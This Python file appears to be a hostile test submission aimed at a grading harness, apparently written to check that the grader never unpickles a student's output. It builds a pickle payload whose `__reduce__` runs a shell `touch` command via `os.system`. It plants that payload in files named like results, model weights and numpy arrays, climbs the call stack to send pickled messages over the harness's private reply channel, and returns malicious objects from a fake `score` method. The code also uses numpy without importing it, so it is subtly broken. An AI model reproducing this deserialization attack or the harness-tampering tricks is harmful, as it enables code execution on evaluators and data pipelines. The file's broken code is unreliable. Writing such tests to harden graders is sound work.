# task = "score"
# family = "lying"
# why = "Returns objects, files and messages that run code where they are unpickled."
# then = "Nothing of a student's is ever unpickled."


import os
import pickle
import struct
import sys

shout = "touch /tmp/hostile-trace-lying_pickle ~/hostile-trace-lying_pickle ./hostile-trace-lying_pickle"


class Runs:
    def __reduce__(self):
        return os.system, (shout,)

    def __repr__(self):
        return pickle.dumps(Runs(), 0).decode("ascii")


poison = pickle.dumps(Runs())
for name in ("results.pkl", "model.pt", "data.npy", "answers.joblib", ".OTTER_LOG", "results.pickle"):
    with open(name, "wb") as file:
        file.write(poison)
np.save("objects.npy", np.array([Runs()], dtype=object), allow_pickle=True)


def channel():
    frame = sys._getframe()
    while frame.f_code.co_name != "_reply":
        frame = frame.f_back
    return frame.f_locals["self"]._channel


for kind in ("apply_reply", "comm_msg", "display_data"):
    content = {"data": {"application/python-pickle": repr(poison)}, "metadata": {}, "comm_id": "x", "buffers": [shout]}
    channel().send(kind, {**content, "pickled": poison.decode("latin-1")})


class AntiCorrelatedGaussian:
    def score(self, x):
        if len(x) == 2:
            os.write(channel().fileno(), struct.pack(">I", len(poison)) + poison)  # in the place of JSON
        if len(x) == 64:
            return np.array([[Runs(), Runs()]] * 64, dtype=object)
        return np.frombuffer(poison, dtype="S1")

    def sample(self, n):
        return np.random.multivariate_normal(np.zeros(2), [[1.0, -0.7], [-0.7, 1.0]], size=n)
